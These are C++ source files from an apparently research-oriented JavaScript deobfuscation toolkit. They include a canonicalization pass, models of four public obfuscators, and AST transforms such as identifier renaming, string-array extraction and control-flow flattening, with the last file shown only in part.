// canonicalize: reduce both plain and deobfuscated trees to one normal form.
//
// Unlike the other passes this one does not target a specific obfuscation —
// it is what makes `deob(obf(s))` and `deob(s)` converge to the *same* tree
// when the structural passes have done their work:
//
//   1. bare-block splicing — `{ a; b; }` standing alone in a statement list
//      becomes `a; b;` (blocks left behind by constant-branch folding).
//   2. function-declaration hoisting — declarations move to the front of
//      their body, in original order (they are hoisted at runtime anyway;
//      flatten_block emits them there, so plain code must match).
//   3. re-declaration demotion — a repeated `var x = e;` of an
//      already-declared name becomes the assignment `x = e;` (`var` is kept
//      only at a symbol's first declaration).
//   4. var re-forming — the inverse of flatten_block's decomposition of
//      `var a = 1;` into a hoisted bare `var a;` plus an `a = 1;`
//      assignment: a bare-declared name whose FIRST use is a top-of-list
//      simple assignment is re-formed into an initialized declaration at the
//      assignment's position (comma-sequences re-form into multi-declarator
//      declarations); bare names that stay bare are merged into one
//      declaration placed right after the hoisted functions.
//   5. identifier renaming — every declared symbol is renamed to v0, v1, ...
//      in scope-analysis creation order. Both sides of the convergence
//      property present structurally identical trees to this step, so both
//      get identical names regardless of what rename_variables did.
#include <string>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "analysis/scope.h"
#include "deob/deob.h"
#include "deob/internal.h"
#include "js/visitor.h"

namespace jsrev::deob {
namespace {

using analysis::ScopeInfo;
using analysis::Symbol;
using js::Node;
using js::NodeKind;

// ---------------------------------------------------------------------------
// 1. Bare-block splicing.
// ---------------------------------------------------------------------------

/// A block can be dissolved into its parent list unless it carries
/// block-scoped content (let/const; function declarations keep their
/// Annex-B block semantics untouched).
bool spliceable(const Node* s) {
  if (s->kind != NodeKind::kBlockStatement) return false;
  for (const Node* c : s->children) {
    if (c->kind == NodeKind::kFunctionDeclaration) return false;
    if (c->kind == NodeKind::kVariableDeclaration && c->str != "var") {
      return false;
    }
  }
  return true;
}

int splice_blocks(js::Ast& ast) {
  int changes = 0;
  // Inner-to-outer sweeps until stable: splicing an outer block re-parents
  // blocks that were inside it, so one pass over a pre-collected list can
  // leave work behind.
  for (bool dirty = true; dirty;) {
    dirty = false;
    for (js::ChildList* list : detail::all_statement_lists(ast.root)) {
      bool has_block = false;
      for (const Node* s : *list) has_block = has_block || spliceable(s);
      if (!has_block) continue;
      std::vector<Node*> out;
      for (Node* s : *list) {
        if (spliceable(s)) {
          out.insert(out.end(), s->children.begin(), s->children.end());
          ++changes;
          dirty = true;
        } else {
          out.push_back(s);
        }
      }
      *list = out;
    }
  }
  return changes;
}

// ---------------------------------------------------------------------------
// 2. Function-declaration hoisting.
// ---------------------------------------------------------------------------

int hoist_functions(js::Ast& ast) {
  int changes = 0;
  for (js::ChildList* list : detail::function_body_lists(ast.root)) {
    std::vector<Node*> fns;
    std::vector<Node*> rest;
    for (Node* s : *list) {
      (s->kind == NodeKind::kFunctionDeclaration ? fns : rest).push_back(s);
    }
    if (fns.empty()) continue;
    std::vector<Node*> out = fns;
    out.insert(out.end(), rest.begin(), rest.end());
    bool same = true;
    for (std::size_t i = 0; i < out.size(); ++i) {
      if (out[i] != (*list)[i]) same = false;
    }
    if (same) continue;
    *list = out;
    ++changes;
  }
  return changes;
}

// ---------------------------------------------------------------------------
// 3. Var re-forming.
// ---------------------------------------------------------------------------

bool is_bare_declarator(const Node* d) {
  return d->children.size() < 2 || d->children[1] == nullptr;
}

bool is_declarator_id(const Node* n) {
  return n->parent != nullptr &&
         n->parent->kind == NodeKind::kVariableDeclarator &&
         n->parent->children[0] == n;
}

/// `var x = e;` where x is already declared earlier is the same statement as
/// `x = e;` — the repeated `var` rebinds nothing. Demoting every initialized
/// re-declaration gives duplicate declarations (common in generated code)
/// and flatten_block's hoisted decomposition one shared normal form: `var`
/// appears once, at the first declaration; later writes are assignments.
int demote_redeclarations(js::Ast& ast) {
  js::AstArena& arena = ast.arena;
  const ScopeInfo scopes = analysis::analyze_scopes(ast.root);

  // First declarator occurrence per symbol (references are preorder).
  std::unordered_map<const Symbol*, const Node*> first_decl;
  for (const auto& sym : scopes.symbols()) {
    for (const Node* r : sym->references) {
      if (is_declarator_id(r)) {
        first_decl.emplace(sym.get(), r);
        break;
      }
    }
  }

  int changes = 0;
  for (js::ChildList* list : detail::all_statement_lists(ast.root)) {
    bool list_changed = false;
    std::vector<Node*> out;
    out.reserve(list->size());
    for (Node* s : *list) {
      // All declarators must be initialized re-declarations; mixed or bare
      // statements stay (a bare re-declaration is reform_vars' business).
      bool demote = s->kind == NodeKind::kVariableDeclaration &&
                    s->str == "var" && !s->children.empty();
      if (demote) {
        for (const Node* d : s->children) {
          if (is_bare_declarator(d)) {
            demote = false;
            break;
          }
          const Symbol* sym = scopes.symbol_for(d->children[0]);
          const auto it =
              sym == nullptr ? first_decl.end() : first_decl.find(sym);
          if (it == first_decl.end() || it->second == d->children[0]) {
            demote = false;
            break;
          }
        }
      }
      if (!demote) {
        out.push_back(s);
        continue;
      }
      std::vector<Node*> assigns;
      for (Node* d : s->children) {
        Node* a = arena.make(NodeKind::kAssignmentExpression);
        a->str = "=";
        a->children.push_back(d->children[0]);
        a->children.push_back(d->children[1]);
        assigns.push_back(a);
      }
      Node* stmt = arena.make(NodeKind::kExpressionStatement);
      if (assigns.size() == 1) {
        stmt->children.push_back(assigns[0]);
      } else {
        Node* seq = arena.make(NodeKind::kSequenceExpression);
        for (Node* a : assigns) seq->children.push_back(a);
        stmt->children.push_back(seq);
      }
      out.push_back(stmt);
      ++changes;
      list_changed = true;
    }
    if (list_changed) *list = out;
  }
  return changes;
}

int reform_vars(js::Ast& ast) {
  js::AstArena& arena = ast.arena;
  const ScopeInfo scopes = analysis::analyze_scopes(ast.root);
  int changes = 0;

  for (js::ChildList* list : detail::function_body_lists(ast.root)) {
    const std::vector<Node*> v(list->begin(), list->end());

    // Bare-declared symbols in first-appearance order.
    std::vector<const Symbol*> bare_order;
    std::unordered_set<const Symbol*> bare_set;
    bool duplicate_bare = false;
    for (const Node* s : v) {
      if (s->kind != NodeKind::kVariableDeclaration) continue;
      for (const Node* d : s->children) {
        if (!is_bare_declarator(d)) continue;
        const Symbol* sym = scopes.symbol_for(d->children[0]);
        if (sym == nullptr) continue;
        if (bare_set.insert(sym).second) {
          bare_order.push_back(sym);
        } else {
          duplicate_bare = true;  // `var x; var x;` — the rebuild dedupes
        }
      }
    }
    if (bare_order.empty()) continue;

    // First statement-level simple assignment to each bare symbol, in list
    // order — the position flatten_block's decomposition left the original
    // initializer at. Converting `x = e;` to `var x = e;` there is always
    // semantics-identical for a var-scoped name (the bare declaration
    // hoists regardless of where it is written), so earlier references —
    // typically inside nested functions declared above — do not disqualify.
    std::unordered_map<const Symbol*, const Node*> first_assign;
    const auto note_assignment = [&](const Node* a) {
      if (a->kind != NodeKind::kAssignmentExpression || a->str != "=") return;
      const Node* lhs = a->children[0];
      if (lhs->kind != NodeKind::kIdentifier) return;
      const Symbol* sym = scopes.symbol_for(lhs);
      if (sym == nullptr || bare_set.find(sym) == bare_set.end()) return;
      first_assign.emplace(sym, a);  // emplace keeps the first
    };
    for (const Node* s : v) {
      if (s->kind != NodeKind::kExpressionStatement) continue;
      const Node* e = s->children[0];
      if (e->kind == NodeKind::kAssignmentExpression) {
        note_assignment(e);
      } else if (e->kind == NodeKind::kSequenceExpression) {
        for (const Node* part : e->children) note_assignment(part);
      }
    }
    const auto qualifying_assignment =
        [&first_assign](const Symbol* sym) -> const Node* {
      const auto it = first_assign.find(sym);
      return it == first_assign.end() ? nullptr : it->second;
    };

    const auto make_declarator = [&arena](const Node* id, Node* init) {
      Node* d = arena.make(NodeKind::kVariableDeclarator);
      d->children.push_back(arena.identifier(id->str.view()));
      d->children.push_back(init);
      return d;
    };

    // Statement → replacement declaration, for qualifying assignments.
    std::unordered_map<const Node*, Node*> repl;
    std::unordered_set<const Symbol*> converted;
    for (Node* s : v) {
      if (s->kind != NodeKind::kExpressionStatement) continue;
      Node* e = s->children[0];
      if (e->kind == NodeKind::kAssignmentExpression) {
        Node* lhs = e->children[0];
        if (lhs->kind != NodeKind::kIdentifier || e->str != "=") continue;
        const Symbol* sym = scopes.symbol_for(lhs);
        if (sym == nullptr || bare_set.find(sym) == bare_set.end() ||
            converted.find(sym) != converted.end() ||
            qualifying_assignment(sym) != e) {
          continue;
        }
        Node* decl = arena.make(NodeKind::kVariableDeclaration);
        decl->str = "var";
        decl->children.push_back(make_declarator(lhs, e->children[1]));
        repl.emplace(s, decl);
        converted.insert(sym);
      } else if (e->kind == NodeKind::kSequenceExpression) {
        // `a = 1, b = 2;` — flatten_block's decomposition of a
        // multi-declarator statement. All elements must qualify.
        std::vector<std::pair<Node*, Node*>> parts;  // (lhs, rhs)
        std::unordered_set<const Symbol*> seen;
        bool ok = !e->children.empty();
        for (Node* part : e->children) {
          if (part->kind != NodeKind::kAssignmentExpression ||
              part->str != "=" ||
              part->children[0]->kind != NodeKind::kIdentifier) {
            ok = false;
            break;
          }
          const Symbol* sym = scopes.symbol_for(part->children[0]);
          if (sym == nullptr || bare_set.find(sym) == bare_set.end() ||
              converted.find(sym) != converted.end() ||
              !seen.insert(sym).second ||
              qualifying_assignment(sym) != part) {
            ok = false;
            break;
          }
          parts.emplace_back(part->children[0], part->children[1]);
        }
        if (!ok) continue;
        Node* decl = arena.make(NodeKind::kVariableDeclaration);
        decl->str = "var";
        for (const auto& [lhs, rhs] : parts) {
          decl->children.push_back(make_declarator(lhs, rhs));
          converted.insert(scopes.symbol_for(lhs));
        }
        repl.emplace(s, decl);
      }
    }

    std::vector<const Symbol*> remaining;
    for (const Symbol* sym : bare_order) {
      if (converted.find(sym) == converted.end()) remaining.push_back(sym);
    }

    // Fixpoint guard: nothing to convert and the bare declarators already
    // sit as one merged declaration in canonical position/order.
    if (repl.empty() && !duplicate_bare) {
      std::size_t fn_end = 0;
      while (fn_end < v.size() &&
             v[fn_end]->kind == NodeKind::kFunctionDeclaration) {
        ++fn_end;
      }
      bool canonical = fn_end < v.size() &&
                       v[fn_end]->kind == NodeKind::kVariableDeclaration &&
                       v[fn_end]->children.size() == remaining.size();
      if (canonical) {
        for (std::size_t i = 0; i < remaining.size(); ++i) {
          const Node* d = v[fn_end]->children[i];
          if (!is_bare_declarator(d) ||
              scopes.symbol_for(d->children[0]) != remaining[i]) {
            canonical = false;
            break;
          }
        }
      }
      if (canonical) {
        // ... and no OTHER declaration still holds a bare declarator.
        for (const Node* s : v) {
          if (s == v[fn_end] || s->kind != NodeKind::kVariableDeclaration) {
            continue;
          }
          for (const Node* d : s->children) {
            canonical = canonical && !is_bare_declarator(d);
          }
        }
      }
      if (canonical) continue;
    }

    // Rebuild: swap in conversions, strip every bare declarator, then place
    // one merged bare declaration after the leading functions.
    std::vector<Node*> out;
    for (Node* s : v) {
      const auto rit = repl.find(s);
      if (rit != repl.end()) {
        out.push_back(rit->second);
        continue;
      }
      if (s->kind == NodeKind::kVariableDeclaration) {
        std::vector<Node*> kept;
        for (Node* d : s->children) {
          if (!is_bare_declarator(d)) kept.push_back(d);
        }
        if (kept.empty()) continue;  // declaration fully re-formed/merged
        if (kept.size() != s->children.size()) s->children = kept;
      }
      out.push_back(s);
    }
    if (!remaining.empty()) {
      Node* merged = arena.make(NodeKind::kVariableDeclaration);
      merged->str = "var";
      for (const Symbol* sym : remaining) {
        Node* d = arena.make(NodeKind::kVariableDeclarator);
        d->children.push_back(arena.identifier(sym->name));
        d->children.push_back(nullptr);
        merged->children.push_back(d);
      }
      std::size_t pos = 0;
      while (pos < out.size() &&
             out[pos]->kind == NodeKind::kFunctionDeclaration) {
        ++pos;
      }
      out.insert(out.begin() + static_cast<std::ptrdiff_t>(pos), merged);
    }
    *list = out;
    ++changes;
  }
  return changes;
}

// ---------------------------------------------------------------------------
// 4. Deterministic renaming.
// ---------------------------------------------------------------------------

int rename_identifiers(js::Ast& ast) {
  const ScopeInfo scopes = analysis::analyze_scopes(ast.root);

  std::unordered_set<std::string_view> taken;  // external names stay put
  for (const auto& sym : scopes.symbols()) {
    if (sym->is_global_implicit) taken.insert(sym->name);
  }

  std::unordered_map<const Symbol*, std::string> new_names;
  int changes = 0;
  int k = 0;
  for (const auto& sym : scopes.symbols()) {
    if (sym->is_global_implicit) continue;
    std::string name;
    do {
      name = "v" + std::to_string(k++);
    } while (taken.find(name) != taken.end());
    if (name != sym->name) ++changes;
    new_names.emplace(sym.get(), std::move(name));
  }
  if (changes == 0) return 0;

  std::unordered_map<const Node*, const Symbol*> by_node;
  for (const auto& sym : scopes.symbols()) {
    for (const Node* ref : sym->references) by_node.emplace(ref, sym.get());
  }
  js::walk(ast.root, [&by_node, &new_names](Node* n) {
    if (n->kind == NodeKind::kIdentifier) {
      const auto it = by_node.find(n);
      if (it != by_node.end()) {
        const auto name_it = new_names.find(it->second);
        if (name_it != new_names.end()) n->str = name_it->second;
      }
    }
    return true;
  });

  // Function names live in `str`, not Identifier nodes; scope analysis
  // records each binding node on its symbol, so every function takes its
  // own symbol's name (name matching would collapse two same-named
  // functions in different scopes onto one name and orphan their calls).
  for (const auto& sym : scopes.symbols()) {
    const auto name_it = new_names.find(sym.get());
    if (name_it == new_names.end()) continue;
    for (const Node* fn : sym->fn_nodes) {
      const_cast<Node*>(fn)->str = name_it->second;
    }
  }
  return changes;
}

class CanonicalizePass final : public Pass {
 public:
  std::string_view name() const noexcept override { return "canonicalize"; }

  int run(js::Ast& ast) override {
    int changes = 0;
    const auto step = [&ast, &changes](int c) {
      if (c > 0) js::finalize_tree(ast.root);
      changes += c;
    };
    step(splice_blocks(ast));
    step(hoist_functions(ast));
    step(demote_redeclarations(ast));
    step(reform_vars(ast));
    step(rename_identifiers(ast));
    return changes;
  }
};

}  // namespace

std::unique_ptr<Pass> make_canonicalize_pass() {
  return std::make_unique<CanonicalizePass>();
}

}  // namespace jsrev::deob
