// Reusable AST rewriting passes composed by the obfuscator models.
//
// All passes mutate the tree in place (allocating new nodes from the tree's
// arena) and require finalize_tree to be re-run afterwards; the driver in
// each obfuscator takes care of that.
#pragma once

#include <string>
#include <vector>

#include "js/ast.h"
#include "util/rng.h"

namespace jsrev::obf {

/// Styles for generated replacement identifiers.
enum class NameStyle {
  kHex,        // _0x3f2a1c        (javascript-obfuscator)
  kShort,      // a, b, ..., aa    (minifier-style)
  kGibberish,  // qZwXk_9          (jshaman-style)
  kFog,        // fog0, fog1, ...  (jfogs-style)
};

/// Generates the i-th name in the given style (deterministic, but kHex and
/// kGibberish mix in bits from `rng` to look realistic).
std::string make_name(NameStyle style, int index, Rng& rng);

/// Renames every program-declared variable, parameter, and function name
/// consistently (per symbol, via scope analysis). References to undeclared
/// globals (browser APIs, etc.) are left intact — exactly what real
/// renamers do. Returns the number of symbols renamed.
int rename_variables(js::Ast& ast, NameStyle style, Rng& rng);

/// Extracts every string literal into one global array; occurrences become
/// indexed accessor calls `_sd(i)` through an emitted decoder function.
/// When `encode` is true the array holds base64 text and the decoder decodes
/// at runtime (javascript-obfuscator's "string array encoding").
/// Returns the number of strings extracted.
int extract_string_array(js::Ast& ast, Rng& rng, bool encode);

/// Control-flow flattening: rewrites each function body (and the top level)
/// with ≥ `min_stmts` straight-line statements into a while/switch dispatch
/// driven by a shuffled order string. Statements that manage control flow
/// (declarations hoisted, return/break/continue) keep the pass conservative:
/// bodies containing them are skipped. Returns number of bodies flattened.
int flatten_control_flow(js::Ast& ast, Rng& rng, int min_stmts = 3);

/// Injects dead code: junk variable declarations and never-executed branches
/// around existing statements. `density` in [0,1] controls how many
/// insertion points are used. Returns number of injected statements.
int inject_dead_code(js::Ast& ast, Rng& rng, double density);

/// Splits string literals of length ≥ min_len into concatenations of random
/// chunks; with probability `charcode_p` a chunk is rendered as
/// String.fromCharCode(...). (JSObfu's signature transform.)
int encode_strings(js::Ast& ast, Rng& rng, std::size_t min_len,
                   double charcode_p);

/// Rewrites integer literals as equivalent arithmetic (e.g. 7 → 0x3+0x4 or
/// 16-9). `p` is the per-literal probability. Returns rewrites performed.
int encode_numbers(js::Ast& ast, Rng& rng, double p);

/// Jfogs-style fogging: for each function, parameters are renamed to
/// positional fog names, and direct calls to known global-ish functions are
/// routed through an indirection table `var _f = [fn1, fn2]; _f[0](...)`.
int fog_calls(js::Ast& ast, Rng& rng);

/// Decomposes direct call statements: non-trivial call arguments are hoisted
/// into fresh temporary `var` declarations inserted before the statement
/// (evaluation order preserved). Applied per statement with probability `p`.
/// Statement-level restructuring used by the JSObfu model.
int hoist_call_args(js::Ast& ast, Rng& rng, double p);

/// Classic in-the-wild string hiding: rewrites string literals of length
/// >= min_len as `unescape("%61%62...")` calls with probability `p`. Used by
/// the corpus generator to model the unknown obfuscators applied to wild
/// samples (deliberately DIFFERENT machinery from the four test-time
/// obfuscator models).
int escape_encode_strings(js::Ast& ast, Rng& rng, std::size_t min_len,
                          double p);

}  // namespace jsrev::obf
