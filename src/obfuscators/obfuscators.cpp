// The four obfuscator models (paper Section IV-A2) composed from the shared
// transform passes, plus the whitespace minifier.
#include "obfuscators/obfuscator.h"

#include "js/parser.h"
#include "js/printer.h"
#include "obfuscators/transforms.h"
#include "util/rng.h"

namespace jsrev::obf {
namespace {

/// JavaScript-Obfuscator model: hex variable renaming, string-array
/// extraction with base64 encoding, control-flow flattening, and dead-code
/// injection — the tool's default-preset transformation inventory.
class JavaScriptObfuscatorModel final : public Obfuscator {
 public:
  std::string obfuscate(const std::string& source,
                        std::uint64_t seed) const override {
    js::Ast ast = js::parse(source);
    Rng rng(seed);
    rename_variables(ast, NameStyle::kHex, rng);
    flatten_control_flow(ast, rng, /*min_stmts=*/3);
    // splitStrings + numbersToExpressions: intra-statement rewrites from the
    // tool's default-ish preset, applied before string-array extraction so
    // the array holds the split fragments.
    encode_strings(ast, rng, /*min_len=*/6, /*charcode_p=*/0.0);
    encode_numbers(ast, rng, /*p=*/0.5);
    extract_string_array(ast, rng, /*encode=*/true);
    inject_dead_code(ast, rng, /*density=*/0.25);
    return js::print(ast.root, js::PrintStyle::kMinified);
  }

  std::string name() const override { return "JavaScript-Obfuscator"; }
};

/// Jfogs model: removes call identifiers and parameters — parameters become
/// positional fog names and calls go through an indirection table.
class JfogsModel final : public Obfuscator {
 public:
  std::string obfuscate(const std::string& source,
                        std::uint64_t seed) const override {
    js::Ast ast = js::parse(source);
    Rng rng(seed);
    fog_calls(ast, rng);
    return js::print(ast.root, js::PrintStyle::kPretty);
  }

  std::string name() const override { return "Jfogs"; }
};

/// JSObfu model: randomizes/removes signaturable string constants (chunked
/// concatenation + String.fromCharCode) and numeric literals, with fresh
/// variable names, applied ITERATIVELY (3 rounds) as the paper configures.
class JsObfuModel final : public Obfuscator {
 public:
  std::string obfuscate(const std::string& source,
                        std::uint64_t seed) const override {
    std::string cur = source;
    Rng rng(seed);
    for (int round = 0; round < 3; ++round) {
      js::Ast ast = js::parse(cur);
      rename_variables(ast, NameStyle::kGibberish, rng);
      // Later rounds re-split the already-chunked strings and re-decompose
      // the freshly created call statements, compounding the AST damage —
      // the behaviour the paper attributes JSObfu's strength to.
      hoist_call_args(ast, rng, /*p=*/0.75);
      encode_strings(ast, rng, /*min_len=*/2, /*charcode_p=*/0.5);
      encode_numbers(ast, rng, /*p=*/0.6);
      cur = js::print(ast.root, js::PrintStyle::kMinified);
    }
    return cur;
  }

  std::string name() const override { return "JSObfu"; }
};

/// Jshaman (basic tier) model: variable obfuscation only.
class JshamanModel final : public Obfuscator {
 public:
  std::string obfuscate(const std::string& source,
                        std::uint64_t seed) const override {
    js::Ast ast = js::parse(source);
    Rng rng(seed);
    rename_variables(ast, NameStyle::kGibberish, rng);
    return js::print(ast.root, js::PrintStyle::kPretty);
  }

  std::string name() const override { return "Jshaman"; }
};

}  // namespace

std::string obfuscator_kind_name(ObfuscatorKind k) {
  switch (k) {
    case ObfuscatorKind::kJavaScriptObfuscator: return "JavaScript-Obfuscator";
    case ObfuscatorKind::kJfogs: return "Jfogs";
    case ObfuscatorKind::kJsObfu: return "JSObfu";
    case ObfuscatorKind::kJshaman: return "Jshaman";
  }
  return "?";
}

std::unique_ptr<Obfuscator> make_obfuscator(ObfuscatorKind kind) {
  switch (kind) {
    case ObfuscatorKind::kJavaScriptObfuscator:
      return std::make_unique<JavaScriptObfuscatorModel>();
    case ObfuscatorKind::kJfogs:
      return std::make_unique<JfogsModel>();
    case ObfuscatorKind::kJsObfu:
      return std::make_unique<JsObfuModel>();
    case ObfuscatorKind::kJshaman:
      return std::make_unique<JshamanModel>();
  }
  return nullptr;
}

std::string minify(const std::string& source) {
  js::Ast ast = js::parse(source);
  return js::print(ast.root, js::PrintStyle::kMinified);
}

}  // namespace jsrev::obf
