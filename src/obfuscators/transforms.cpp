#include "obfuscators/transforms.h"

#include <algorithm>
#include <cmath>
#include <unordered_map>
#include <unordered_set>

#include "analysis/scope.h"
#include "js/visitor.h"
#include "util/base64.h"

namespace jsrev::obf {
namespace {

using js::Ast;
using js::LiteralType;
using js::Node;
using js::NodeKind;

constexpr char kHexDigits[] = "0123456789abcdef";

}  // namespace

std::string make_name(NameStyle style, int index, Rng& rng) {
  switch (style) {
    case NameStyle::kHex: {
      std::string s = "_0x";
      for (int i = 0; i < 6; ++i) s += kHexDigits[rng.below(16)];
      s += kHexDigits[index % 16];  // keep distinct even on rng collision
      return s;
    }
    case NameStyle::kShort: {
      // a..z, aa..az, ba.. — skip JS keywords implicitly (none match).
      std::string s;
      int n = index;
      do {
        s += static_cast<char>('a' + n % 26);
        n = n / 26 - 1;
      } while (n >= 0);
      std::reverse(s.begin(), s.end());
      return s + "_";
    }
    case NameStyle::kGibberish: {
      static constexpr char kConsonants[] = "qwzxkvbnmj";
      std::string s;
      s += static_cast<char>('A' + rng.below(26));
      for (int i = 0; i < 5; ++i) {
        s += kConsonants[rng.below(sizeof kConsonants - 1)];
      }
      s += '_';
      s += std::to_string(index);
      return s;
    }
    case NameStyle::kFog:
      return "fog" + std::to_string(index);
  }
  return "v" + std::to_string(index);
}

int rename_variables(Ast& ast, NameStyle style, Rng& rng) {
  js::finalize_tree(ast.root);
  const analysis::ScopeInfo scopes = analysis::analyze_scopes(ast.root);

  // Assign a fresh name per declared symbol.
  std::unordered_map<const analysis::Symbol*, std::string> new_names;
  int index = 0;
  for (const auto& sym : scopes.symbols()) {
    if (sym->is_global_implicit) continue;  // external APIs stay put
    new_names.emplace(sym.get(), make_name(style, index++, rng));
  }

  // Rewrite identifier references.
  std::unordered_map<const Node*, const analysis::Symbol*> by_node;
  for (const auto& sym : scopes.symbols()) {
    for (const Node* ref : sym->references) by_node.emplace(ref, sym.get());
  }
  js::walk(ast.root, [&](Node* n) {
    if (n->kind == NodeKind::kIdentifier) {
      const auto it = by_node.find(n);
      if (it != by_node.end()) {
        const auto name_it = new_names.find(it->second);
        if (name_it != new_names.end()) n->str = name_it->second;
      }
    }
    return true;
  });

  // Function declaration/expression names live in `str`, not an Identifier
  // node; scope analysis records each binding node on its symbol, so every
  // function gets its own symbol's name (two same-named functions in
  // different scopes must not collapse to one name — the call sites were
  // renamed per symbol above).
  for (const auto& sym : scopes.symbols()) {
    const auto it = new_names.find(sym.get());
    if (it == new_names.end()) continue;
    for (const Node* fn : sym->fn_nodes) {
      const_cast<Node*>(fn)->str = it->second;
    }
  }

  js::finalize_tree(ast.root);
  return index;
}

int extract_string_array(Ast& ast, Rng& rng, bool encode) {
  js::finalize_tree(ast.root);

  // Collect string literals (skip object-literal keys and tiny strings that
  // the real tool leaves alone).
  std::vector<Node*> strings;
  js::walk(ast.root, [&](Node* n) {
    if (n->kind == NodeKind::kProperty && !n->has_flag(Node::kComputed)) {
      // Visit only the value; the key must remain a literal.
      js::walk(n->children[1], [&](Node* m) {
        if (m->kind == NodeKind::kLiteral && m->lit == LiteralType::kString) {
          strings.push_back(m);
        }
        return true;
      });
      return false;
    }
    if (n->kind == NodeKind::kLiteral && n->lit == LiteralType::kString) {
      strings.push_back(n);
    }
    return true;
  });
  if (strings.empty()) return 0;

  auto& arena = ast.arena;
  Rng name_rng = rng.fork();
  const std::string array_name = make_name(NameStyle::kHex, 900, name_rng);
  const std::string getter_name = make_name(NameStyle::kHex, 901, name_rng);

  // Deduplicated table of string values; random rotation offset like the
  // real tool's --string-array-rotate.
  std::vector<std::string> table;
  std::unordered_map<std::string, std::size_t> table_index;
  for (const Node* s : strings) {
    if (table_index.emplace(s->str, table.size()).second) {
      table.push_back(s->str);
    }
  }
  const std::size_t offset = rng.below(97) + 3;

  // Replace literals with getter calls `getter(index + offset)`.
  for (Node* s : strings) {
    const std::size_t idx = table_index[s->str];
    Node* call = arena.make(NodeKind::kCallExpression);
    call->children.push_back(arena.identifier(getter_name));
    call->children.push_back(
        arena.number_literal(static_cast<double>(idx + offset)));
    // Overwrite the literal node in place to avoid hunting for the parent
    // slot: turn it into the call node's content.
    js::replace_node(s, *call);
  }

  // Build `var <array> = [...];`
  Node* arr = arena.make(NodeKind::kArrayExpression);
  for (const std::string& v : table) {
    arr->children.push_back(
        arena.string_literal(encode ? base64_encode(v) : v));
  }
  Node* decl = arena.make(NodeKind::kVariableDeclaration);
  decl->str = "var";
  Node* declarator = arena.make(NodeKind::kVariableDeclarator);
  declarator->children.push_back(arena.identifier(array_name));
  declarator->children.push_back(arr);
  decl->children.push_back(declarator);

  // Build the getter:
  //   function getter(i) { var s = array[i - offset];
  //     return s; }                         (plain)
  //   ... return atob(s); }                 (encoded)
  Node* fn = arena.make(NodeKind::kFunctionDeclaration);
  fn->str = getter_name;
  Node* param = arena.identifier("i");
  Node* body = arena.make(NodeKind::kBlockStatement);
  {
    Node* idx_expr = arena.make(NodeKind::kBinaryExpression);
    idx_expr->str = "-";
    idx_expr->children.push_back(arena.identifier("i"));
    idx_expr->children.push_back(
        arena.number_literal(static_cast<double>(offset)));
    Node* member = arena.make(NodeKind::kMemberExpression);
    member->flags |= Node::kComputed;
    member->children.push_back(arena.identifier(array_name));
    member->children.push_back(idx_expr);

    Node* svar = arena.make(NodeKind::kVariableDeclaration);
    svar->str = "var";
    Node* sdecl = arena.make(NodeKind::kVariableDeclarator);
    sdecl->children.push_back(arena.identifier("s"));
    sdecl->children.push_back(member);
    svar->children.push_back(sdecl);
    body->children.push_back(svar);

    Node* ret = arena.make(NodeKind::kReturnStatement);
    if (encode) {
      Node* atob_call = arena.make(NodeKind::kCallExpression);
      atob_call->children.push_back(arena.identifier("atob"));
      atob_call->children.push_back(arena.identifier("s"));
      ret->children.push_back(atob_call);
    } else {
      ret->children.push_back(arena.identifier("s"));
    }
    body->children.push_back(ret);
  }
  fn->children.push_back(param);
  fn->children.push_back(body);

  // Prepend table + getter to the program.
  auto& prog = ast.root->children;
  prog.insert(prog.begin(), fn);
  prog.insert(prog.begin(), decl);

  js::finalize_tree(ast.root);
  return static_cast<int>(strings.size());
}

namespace {

/// True if a statement can be moved into a switch case of the dispatch
/// loop. Bare break/continue/labels would re-bind to the dispatcher;
/// function declarations have hoisting semantics and stay outside.
bool caseable(const Node* s) {
  switch (s->kind) {
    case NodeKind::kBreakStatement:
    case NodeKind::kContinueStatement:
    case NodeKind::kLabeledStatement:
    case NodeKind::kFunctionDeclaration:
      return false;
    default:
      return true;
  }
}

/// True if the statement list can be flattened: every statement is either
/// case-able or a hoistable function declaration, with at least `min`
/// case-able statements. `let`/`const` declarations block the transform
/// (hoisting them to `var` would change semantics for shadowed names).
bool flattenable(const js::ChildList& stmts, int min) {
  int cases = 0;
  for (const Node* s : stmts) {
    if (s->kind == NodeKind::kVariableDeclaration && s->str != "var") {
      return false;
    }
    if (caseable(s)) {
      ++cases;
    } else if (s->kind != NodeKind::kFunctionDeclaration) {
      return false;
    }
  }
  return cases >= min;
}

/// Rewrites `stmts` into:
///   <function declarations, hoisted>
///   var <hoisted var names>;
///   var order = "<shuffled>".split("|"), i = 0;
///   while (true) { switch (order[i++]) { case "k": stmt; continue; } break; }
/// `var x = e` declarations are decomposed into a hoisted `var x;` plus an
/// in-case assignment `x = e`, preserving execution order.
void flatten_block(js::AstArena& arena, js::ChildList& all_stmts,
                   Rng& rng) {
  std::vector<Node*> hoisted_fns;
  std::vector<std::string> hoisted_vars;
  std::vector<Node*> stmts;
  for (Node* s : all_stmts) {
    if (s->kind == NodeKind::kFunctionDeclaration) {
      hoisted_fns.push_back(s);
      continue;
    }
    if (s->kind == NodeKind::kVariableDeclaration) {
      // Decompose into hoisted names + an assignment sequence statement.
      std::vector<Node*> assigns;
      for (Node* d : s->children) {
        hoisted_vars.push_back(d->children[0]->str);
        if (d->children.size() > 1 && d->children[1] != nullptr) {
          Node* assign = arena.make(NodeKind::kAssignmentExpression);
          assign->str = "=";
          assign->children.push_back(
              arena.identifier(d->children[0]->str));
          assign->children.push_back(d->children[1]);
          assigns.push_back(assign);
        }
      }
      if (assigns.empty()) continue;  // pure declaration: hoist only
      Node* stmt = arena.make(NodeKind::kExpressionStatement);
      if (assigns.size() == 1) {
        stmt->children.push_back(assigns[0]);
      } else {
        Node* seq = arena.make(NodeKind::kSequenceExpression);
        seq->children = assigns;
        stmt->children.push_back(seq);
      }
      stmts.push_back(stmt);
      continue;
    }
    stmts.push_back(s);
  }
  const std::size_t n = stmts.size();

  // Shuffle the *case placement*, not the execution order: each statement
  // gets a random case tag, and the order string lists tags in execution
  // order.
  std::vector<std::string> tags(n);
  std::vector<std::size_t> placement(n);
  for (std::size_t i = 0; i < n; ++i) placement[i] = i;
  rng.shuffle(placement);
  for (std::size_t i = 0; i < n; ++i) tags[i] = std::to_string(placement[i]);

  std::string order_str;
  for (std::size_t i = 0; i < n; ++i) {
    if (i != 0) order_str += '|';
    order_str += tags[i];
  }

  Rng name_rng = rng.fork();
  const std::string order_name = make_name(NameStyle::kHex, 800, name_rng);
